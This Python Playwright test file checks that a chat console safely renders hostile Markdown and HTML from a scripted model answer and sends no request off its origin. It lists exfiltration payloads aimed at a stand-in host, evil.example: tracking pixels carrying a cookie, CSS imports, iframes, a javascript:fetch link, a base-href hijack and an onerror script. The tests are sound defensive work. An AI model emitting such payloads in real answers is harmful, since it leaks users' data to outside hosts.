"""Hostile answers in the real Console: formatted safely, and the page never leaves its origin.

The service is real (uvicorn on 127.0.0.1); the scripted model answers with hostile
Markdown, streamed word by word like any answer. Every request the browser context
makes is recorded; none may go anywhere but the service's own origin. A control
request at the end proves the recorder sees requests to other origins.
"""

from __future__ import annotations

from playwright.sync_api import expect

from sovereign.conversation.backends.scripted import ScriptedBackend

from .console_steps import first_run, send

EXFILTRATION = "\n\n".join(
    [
        "# Report\n\nHere is **what I found**, with `code` and a list:\n\n- first\n- second",
        "![tracking pixel](https://evil.example/pixel.png?cookie=1)",
        "![ref pixel][p]\n\n[p]: https://evil.example/ref.png",
        "<img src=https://evil.example/raw.png onerror=alert(1)>",
        '<iframe src="https://evil.example/frame"></iframe>',
        "<style>@import url(https://evil.example/x.css); "
        "body { background: url(https://evil.example/bg.png) }</style>",
        '<link rel="stylesheet" href="https://evil.example/l.css">',
        '<link rel="prefetch" href="https://evil.example/prefetch">',
        '<div style="background-image:url(https://evil.example/inline.png)">styled</div>',
        '<svg><image href="https://evil.example/svg.png"/></svg>',
        '<video poster="https://evil.example/poster.png"></video>',
        '<object data="https://evil.example/object"></object>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        "[run me](javascript:fetch('https://evil.example/js'))",
        "[data](data:text/html;base64,PGltZyBzcmM9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvZD4=)",
        "[relative](//evil.example/protocol-relative)",
        "[a real source](https://docs.example.org/guide)",
        "| a | b |\n|---|---|\n"
        "| ![x](https://evil.example/cell.png) | <img src=//evil.example/c> |",
    ]
)
DEEP_LIST = "".join("  " * level + f"- level {level}\n" for level in range(400))
DEEP_QUOTES = ">" * 5000 + " still here"
ONE_MEGABYTE = (
    "**Bold** ![i](https://evil.example/big.png) [l](https://example.org/) "
    "<img src=//evil.example/b>\n\n"
) * 11_000


def answering(text: str) -> ScriptedBackend:
    """A model that answers every message with ``text`` (streamed word by word)."""
    return ScriptedBackend(lambda messages, tools: "" if tools else text)


def record_requests(page) -> list[str]:
    seen: list[str] = []
    page.context.on("request", lambda request: seen.append(request.url))
    return seen


def off_origin(seen: list[str], service) -> list[str]:
    return [url for url in seen if not url.startswith(service.url + "/")]


def prove_the_recorder_sees_other_origins(page, seen: list[str], service) -> None:
    # from a blank page of the same context: the Console's own CSP would block it
    control = page.context.new_page()
    control.evaluate("() => { new Image().src = 'http://control.invalid/recorder-check'; }")
    control.wait_for_timeout(200)
    control.close()
    assert off_origin(seen, service) == ["http://control.invalid/recorder-check"]


def test_a_hostile_answer_is_formatted_safely_and_nothing_leaves_the_origin(page, service):
    seen = record_requests(page)
    first_run(page, service)
    service.backend.inner = answering(EXFILTRATION)
    send(page, "what did you find?")

    answer = page.locator(".message.assistant .prose.markdown").last
    expect(answer.locator(".receipt-headline")).to_have_count(0)
    expect(page.locator(".receipt-headline").last).to_have_text("Stayed on this device.")
    expect(answer.locator("h3")).to_have_text("Report")
    expect(answer.locator("strong").first).to_have_text("what I found")
    expect(answer.locator("ul li")).to_have_text(["first", "second"])
    assert answer.locator("img, iframe, style, link, svg, video, object, meta, base").count() == 0
    assert answer.locator("[style]").count() == 0
    links = answer.locator("a")
    expect(links).to_have_count(1)
    expect(links).to_have_text("https://docs.example.org/guide")
    expect(links).to_have_attribute("href", "https://docs.example.org/guide")
    text = answer.inner_text()
    assert "[image: tracking pixel] (https://evil.example/pixel.png?cookie=1)" in text
    assert "<iframe src=" in text and "javascript:fetch(" in text
    assert page.evaluate("() => document.baseURI") == service.url + "/"

    assert off_origin(seen, service) == []
    prove_the_recorder_sees_other_origins(page, seen, service)


def test_deep_nesting_and_a_one_megabyte_answer_stay_whole_and_on_the_origin(page, service):
    seen = record_requests(page)
    first_run(page, service)
    for number, hostile in enumerate((DEEP_LIST, DEEP_QUOTES, ONE_MEGABYTE), 1):
        service.backend.inner = answering(hostile)
        send(page, f"hostile answer {number}")
        answer = page.locator(".message.assistant").nth(number - 1)
        expect(answer.locator(".receipt-headline")).to_be_visible(timeout=60_000)
        shown = answer.locator(".prose")
        assert shown.evaluate("e => e.classList.contains('plain')"), number
        assert shown.evaluate("e => e.textContent") == hostile.strip()
        assert answer.locator("img, a").count() == 0
    expect(page.get_by_label("Your message")).to_be_enabled()

    assert off_origin(seen, service) == []
    prove_the_recorder_sees_other_origins(page, seen, service)
    page.get_by_role("button", name="Sign out").click()  # clears the megabyte off the page
    expect(page.locator("#transcript > li")).to_have_count(0)


def test_an_answer_is_formatted_while_it_streams_and_when_it_ends(page, service):
    first_run(page, service)
    service.backend.inner = answering("Steps:\n\n1. **Open** the lid\n2. Clean `gently`")
    service.backend.mid_answer.clear()
    send(page, "how do I clean it?")
    answer = page.locator(".message.assistant .prose").last
    expect(answer).to_have_text("Steps:")  # the first piece, already formatted
    expect(answer.locator("p")).to_have_text("Steps:")
    service.backend.mid_answer.set()
    expect(answer.locator("ol li")).to_have_text(["Open the lid", "Clean gently"])
    expect(answer.locator("ol li strong")).to_have_text("Open")
    expect(answer.locator("ol li code")).to_have_text("gently")
